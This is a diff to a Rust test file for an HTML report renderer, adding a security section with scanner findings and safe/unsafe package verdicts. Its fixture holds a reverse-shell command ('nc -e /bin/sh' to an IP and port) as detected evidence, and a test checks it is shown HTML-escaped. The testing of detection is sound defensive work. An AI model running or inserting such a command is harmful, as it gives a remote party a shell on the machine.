@@ -20,6 +20,8 @@ struct Fixture {
     scores: Vec<Score>,
     metrics: Vec<MetricRow>,
     communities: Vec<CommunityRow>,
+    findings: Vec<skg_model::security::Finding>,
+    verdicts: Vec<skg_model::security::Verdict>,
 }
 
 fn member(id: &str, cluster: &str, role: &str) -> Member {
@@ -100,6 +102,23 @@ fn fixture(rscore: f64) -> Fixture {
         )],
         communities: vec![from(json!({"scope": "(all)", "community": 1, "size": 2,
             "label": "alpha tools", "members": ["r1:alpha", "r1:gamma"]}))],
+        findings: vec![from(
+            json!({"skill_id": "r2:delta", "rule": "SKG-SHELL-001",
+            "category": "reverse-shell", "severity": "critical", "base_severity": "critical",
+            "confidence": 0.9, "path": "delta/SKILL.md", "line": 7,
+            "snippet": "nc -e /bin/sh 10.0.0.1 4444 <b>", "message": "`nc -e` hands a shell to the connection",
+            "context": [], "file_hash": "00"}),
+        )],
+        verdicts: vec![
+            from(
+                json!({"skill_id": "r1:alpha", "registry": "r1", "verdict": "safe", "score": 0.0,
+                "findings": 0, "rules": [], "top": ""}),
+            ),
+            from(
+                json!({"skill_id": "r2:delta", "registry": "r2", "verdict": "unsafe", "score": 0.873,
+                "findings": 1, "rules": ["SKG-SHELL-001"], "top": "SKG-SHELL-001 critical"}),
+            ),
+        ],
     }
 }
 
@@ -115,6 +134,8 @@ fn render_fixture(f: &Fixture) -> String {
         scores: &f.scores,
         metrics: &f.metrics,
         communities: &f.communities,
+        findings: &f.findings,
+        verdicts: &f.verdicts,
     };
     render(&input, &Options::default()).unwrap()
 }
@@ -128,6 +149,7 @@ fn every_section_is_rendered_with_its_rows() {
         "duplicates",
         "slop",
         "graph",
+        "security",
         "diagnostics",
     ] {
         assert!(
@@ -158,6 +180,29 @@ fn every_section_is_rendered_with_its_rows() {
     let r2 = &flows[flows.find("<b>r2</b>").unwrap()..];
     let r2 = &r2[..r2.find("</tr>").unwrap()];
     assert!(r2.contains(">1</td>"), "{r2}");
+}
+
+#[test]
+fn the_security_section_lists_the_unsafe_package_with_its_evidence_escaped() {
+    let html = render_fixture(&fixture(0.3));
+    let sec = &html[html.find("<section id=\"security\">").unwrap()..];
+    let sec = &sec[..sec.find("</section>").unwrap()];
+    assert!(sec.contains("<b>1</b> unsafe"), "{sec}");
+    assert!(sec.contains("r2:delta"));
+    assert!(sec.contains("score 0.87"));
+    assert!(sec.contains("delta/SKILL.md:7"));
+    // The evidence is highlighted and escaped.
+    assert!(
+        sec.contains("<mark class=\"evidence\">nc -e /bin/sh 10.0.0.1 4444 &lt;b&gt;</mark>"),
+        "{sec}"
+    );
+    // The category table: reverse-shell, one in r2, none in r1.
+    let row = &sec[sec.find("<td>reverse-shell</td>").unwrap()..];
+    let row = &row[..row.find("</tr>").unwrap()];
+    assert_eq!(row.matches("class=\"num\">0<").count(), 1, "{row}");
+    assert_eq!(row.matches("class=\"num\">1<").count(), 2, "{row}");
+    // The safe package is not listed.
+    assert!(!sec.contains("r1:alpha"));
 }
 
 #[test]
@@ -199,6 +244,8 @@ fn empty_input_renders() {
         scores: &[],
         metrics: &[],
         communities: &[],
+        findings: &[],
+        verdicts: &[],
     };
     let html = render(&input, &Options::default()).unwrap();
     assert!(html.contains("<section id=\"graph\">"));
